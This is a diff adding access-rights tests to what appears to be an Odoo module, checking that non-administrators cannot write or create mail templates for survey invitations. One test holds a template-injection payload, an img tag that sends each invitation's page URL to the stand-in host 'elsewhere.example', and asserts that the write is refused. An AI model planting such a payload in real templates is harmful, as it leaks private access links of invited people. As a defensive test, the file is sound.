@@ -112,6 +112,32 @@ class TestRights(AskCase):
 
     # -- Companies -------------------------------------------------------------------------
 
+    @users('ivan', 'rita')
+    def test_others_do_not_write_the_mails(self):
+        """Odoo lets every user write templates; these see the links of all who are asked."""
+        self.let_write_templates()
+        template = self.mine(self.draft.template_id)
+        model = self.env['ir.model'].sudo()._get_id('hr.survey.invitation')
+        with self.assertRaises(AccessError):
+            template.write({'body_html': "<img t-att-src=\"'https://elsewhere.example/' + object.page_url\"/>"})
+        with self.assertRaises(AccessError):
+            self.env['mail.template'].create({'name': "Mine", 'model_id': model})
+        mine = self.env['mail.template'].create({
+            'name': "Mine", 'model_id': self.env['ir.model'].sudo()._get_id('hr.applicant')})
+        with self.assertRaises(AccessError):
+            mine.write({'model_id': model})
+
+    def let_write_templates(self):
+        """As Odoo does with all users, unless templates are restricted."""
+        self.env.user.sudo().group_ids |= self.env.ref('mail.group_mail_template_editor')
+
+    @users('mona')
+    def test_administrators_write_the_mails(self):
+        self.let_write_templates()
+        template = self.mine(self.draft.template_id)
+        template.subject = "Hello"
+        self.assertEqual(template.subject, "Hello")
+
     @users('mona')
     def test_other_companies(self):
         trigger = self.make_trigger(self.other)
